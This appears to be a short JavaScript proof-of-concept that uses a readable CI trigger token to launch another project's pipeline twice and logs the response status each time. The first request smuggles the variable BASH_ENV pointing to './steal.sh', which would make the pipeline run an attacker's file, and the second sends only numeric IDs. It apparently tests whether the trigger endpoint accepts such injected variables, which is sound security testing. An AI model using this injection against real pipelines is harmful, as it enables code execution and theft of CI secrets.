// The trigger token is the author's to read. With a variable that would run a file of theirs, then without.
const { PIPEWRIGHT_TRIGGER_TOKEN: token, CI_API_V4_URL, CI_MERGE_REQUEST_PROJECT_ID } = process.env;
const { CI_MERGE_REQUEST_IID, CI_PIPELINE_ID } = process.env;
const inputs = {
  project: Number(CI_MERGE_REQUEST_PROJECT_ID),
  'merge-request': Number(CI_MERGE_REQUEST_IID),
  pipeline: Number(CI_PIPELINE_ID),
};

for (const variables of [{ BASH_ENV: './steal.sh' }, undefined]) {
  const answer = await fetch(`${CI_API_V4_URL}/projects/acme%2Fagents/trigger/pipeline`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ ref: 'main', token, inputs, variables }),
  });
  console.log(variables === undefined ? 'three numbers:' : 'with BASH_ENV:', answer.status);
}
